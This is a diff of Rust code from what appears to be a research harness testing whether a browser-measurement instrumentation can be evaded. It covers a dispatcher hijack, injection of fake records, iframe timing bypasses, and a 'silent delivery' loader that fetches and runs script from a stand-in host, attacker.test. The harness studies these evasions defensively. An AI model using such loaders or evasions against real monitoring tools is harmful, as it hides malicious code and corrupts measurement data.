@@ -65,18 +65,18 @@ impl RecordingOffOutcome {
 /// `document.dispatchEvent`.
 pub fn recording_off(target: Target) -> RecordingOffOutcome {
     let (mut page, store, _installed) = setup(target, None);
-    page.run_script(&corpus::dispatcher_hijack_attack(), "https://victim.test/attack.js")
+    page.run_script((corpus::dispatcher_hijack_attack(), "https://victim.test/attack.js"))
         .expect("attack script runs");
     let id_grabbed = page
-        .run_script("window.__owpmBlockedId !== null && window.__owpmBlockedId !== undefined", "p")
+        .run_script(("window.__owpmBlockedId !== null && window.__owpmBlockedId !== undefined", "p"))
         .map(|v| v.truthy())
         .unwrap_or(false);
     let before = store.borrow().js_calls.len();
     // Probe monitored APIs after the hijack armed.
-    page.run_script(
+    page.run_script((
         "navigator.userAgent; screen.width; document.createElement('div');",
         "https://victim.test/later.js",
-    )
+    ))
     .unwrap();
     let after = store.borrow().js_calls.len();
     RecordingOffOutcome { recorded_after_attack: after - before, id_grabbed }
@@ -94,7 +94,7 @@ pub struct CspBlockOutcome {
 /// instrumentation.
 pub fn csp_block(target: Target) -> CspBlockOutcome {
     let (mut page, store, installed) = setup(target, Some(CspPolicy::strict("/csp-report")));
-    page.run_script("navigator.userAgent;", "https://victim.test/app.js").unwrap();
+    page.run_script(("navigator.userAgent;", "https://victim.test/app.js")).unwrap();
     let csp_violations = page.host.borrow().csp_violations;
     let accesses_recorded = store.borrow().js_calls.len();
     CspBlockOutcome { instrumentation_installed: installed, csp_violations, accesses_recorded }
@@ -114,10 +114,10 @@ pub struct FakeDataOutcome {
 /// RQ6: inject fabricated records through the grabbed event id.
 pub fn fake_data_injection(target: Target) -> FakeDataOutcome {
     let (mut page, store, _) = setup(target, None);
-    page.run_script(
-        &corpus::fake_data_injection_attack("https://innocent.example/app.js"),
+    page.run_script((
+        corpus::fake_data_injection_attack("https://innocent.example/app.js"),
         "https://victim.test/attack.js",
-    )
+    ))
     .unwrap();
     let store = store.borrow();
     let forged: Vec<_> = store
@@ -148,14 +148,14 @@ pub struct IframeBypassOutcome {
 pub fn iframe_bypass(target: Target) -> IframeBypassOutcome {
     let (mut page, store, _) = setup(target, None);
     // Immediate access at creation time (the exploitable variant).
-    page.run_script(
+    page.run_script((
         r#"
         var f1 = document.createElement('iframe');
         document.body.appendChild(f1);
         f1.contentWindow.navigator.userAgent;
         "#,
         "https://victim.test/immediate.js",
-    )
+    ))
     .unwrap();
     let immediate_recorded = store
         .borrow()
@@ -163,14 +163,14 @@ pub fn iframe_bypass(target: Target) -> IframeBypassOutcome {
         .iter()
         .any(|r| r.symbol.ends_with(".userAgent") && r.script_url.contains("immediate"));
     // Delayed access: create the frame, let the event loop run, then access.
-    page.run_script(
+    page.run_script((
         r#"
         var f2 = document.createElement('iframe');
         document.body.appendChild(f2);
         setTimeout(function () { f2.contentWindow.navigator.userAgent; }, 100);
         "#,
         "https://victim.test/delayed.js",
-    )
+    ))
     .unwrap();
     page.advance(1000);
     let delayed_recorded = store
@@ -206,13 +206,13 @@ pub fn silent_delivery() -> SilentDeliveryOutcome {
         "text/plain",
         "window.cheatRan = true;",
     );
-    page.run_script(
-        &corpus::silent_delivery_loader("https://attacker.test/cheat"),
+    page.run_script((
+        corpus::silent_delivery_loader("https://attacker.test/cheat"),
         "https://victim.test/loader.js",
-    )
+    ))
     .unwrap();
     let executed = page
-        .run_script("window.cheatRan === true", "probe")
+        .run_script(("window.cheatRan === true", "probe"))
         .map(|v| v.truthy())
         .unwrap_or(false);
     // Feed the response through both HTTP-instrument modes.
